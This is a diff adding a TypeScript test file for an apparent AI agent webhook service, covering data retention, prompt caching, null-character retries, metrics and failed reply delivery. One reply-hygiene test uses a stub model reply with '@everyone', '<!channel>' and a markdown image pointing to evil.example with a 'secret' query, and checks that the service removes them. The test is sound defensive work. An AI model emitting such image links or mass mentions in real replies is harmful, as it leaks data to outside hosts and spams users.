@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict'
+import { sql } from 'kysely'
+import { pruneRuns } from '../../src/runs/prune-runs.ts'
+import { textsOf } from '../support/model-script.ts'
+import { general, startShop } from '../support/start-shop.ts'
+import { startStubAnthropic } from '../support/stub-anthropic.ts'
+import { verifies } from '../support/verifies.ts'
+
+verifies(
+  'events:retention',
+  'runs that ended before the retention are forgotten with all they wrote down',
+  async () => {
+    await using shop = await startShop()
+    const webhook = await shop.createWebhook()
+    const old = await shop.endedRun((await shop.ring(webhook)).runId)
+    const { ctx } = shop.app.app
+    await pruneRuns(ctx)
+    assert.equal((await shop.readRun(old.id)).status, 'succeeded')
+    const inAMonth = () => new Date(Date.now() + 31 * 86_400_000)
+    await pruneRuns({ ...ctx, now: inAMonth })
+    const { rows } = await sql<{ left: number }>`
+    select ((select count(*) from runs) + (select count(*) from run_steps) + (select count(*) from replies)
+      + (select count(*) from tool_calls))::int as left`.execute(ctx.db)
+    assert.equal(rows[0]?.left, 0)
+  },
+)
+
+verifies(
+  'models:providers',
+  'Anthropic is asked to remember the stable beginning of the prompt',
+  async () => {
+    await using model = await startStubAnthropic([{ text: 'Fine.' }])
+    await using shop = await startShop({ env: model.env })
+    const webhook = await shop.createWebhook()
+    await shop.endedRun((await shop.ring(webhook, '{"n":1}')).runId)
+    await shop.endedRun((await shop.ring(webhook, '{"n":2}')).runId)
+    const systems = model.requests.map(({ json }) => JSON.stringify(json.system))
+    assert.match(systems[0] ?? '', /"cache_control":\{"type":"ephemeral"\}/)
+    assert.equal(systems[0], systems[1])
+  },
+)
+
+verifies('runs:model-errors', 'text that a provider refuses is made safe and sent again', async () => {
+  const refuses = (body: string) => body.includes('\\u0000')
+  await using model = await startStubAnthropic(({ body, json }) => {
+    if (refuses(body)) return { status: 400, message: 'invalid character in text' }
+    return textsOf(json.messages).some((text) => text.includes('a␀b'))
+      ? { text: 'Read.' }
+      : { calls: [{ name: 'shop__get_order', input: { id: 'A-1' } }] }
+  })
+  await using shop = await startShop({
+    env: model.env,
+    answer: (_request, response) => response.setHeader('content-type', 'text/plain').end('a\0b'),
+  })
+  const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  assert.deepEqual([run.status, run.reply?.text, run.steps.length], ['succeeded', 'Read.', 2])
+  assert.deepEqual(
+    model.requests.map(({ body }) => refuses(body)),
+    [false, true, false],
+  )
+})
+
+verifies('runs:reply-hygiene', 'a reply rings nobody’s bell and loads no image', async () => {
+  await using model = await startStubAnthropic([
+    { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
+  ])
+  await using shop = await startShop({ env: model.env })
+  await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  const text = (await shop.replies())[0]?.text ?? ''
+  assert.ok(!/@everyone|<!channel>|!\[/.test(text), text)
+})
+
+verifies('log:event-to-reply-histogram', 'the time from event to reply is counted', async () => {
+  await using shop = await startShop()
+  await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  const { text } = await shop.app.api('GET', '/metrics')
+  assert.match(text, /bellhop_event_to_reply_seconds_count 1/)
+  assert.match(text, /bellhop_runs_ended_total\{status="succeeded"\} 1/)
+})
+
+verifies(
+  ['runs:succeeded-means-posted', 'runs:outbox'],
+  'a reply whose channel is gone ends the run as failed, with the text kept',
+  async () => {
+    await using model = await startStubAnthropic(({ body }) =>
+      body.includes('tool_result')
+        ? { text: 'Too late.' }
+        : { calls: [{ name: 'shop__refund', input: { id: 'A-1' } }] },
+    )
+    await using shop = await startShop({ env: model.env })
+    const channel = await shop.app.api<{ id: string }>('POST', '/api/v1/channels', { name: 'short-lived' })
+    const { runId } = await shop.ring(await shop.createWebhook({ channelId: channel.body.id }))
+    const waiting = await shop.runWhen(runId, ({ status }) => status === 'waiting')
+    await sql`update channels set deleted_at = now() where id = ${channel.body.id}`.execute(
+      shop.app.app.ctx.db,
+    )
+    await shop.app.api('POST', `/api/v1/approvals/${waiting.toolCalls[0]?.approvalId}/deny`, {})
+    const run = await shop.endedRun(runId)
+    assert.deepEqual([run.status, run.error?.code, run.reply?.text], ['failed', 'reply_refused', 'Too late.'])
+    assert.notEqual(channel.body.id, general)
+  },
+)
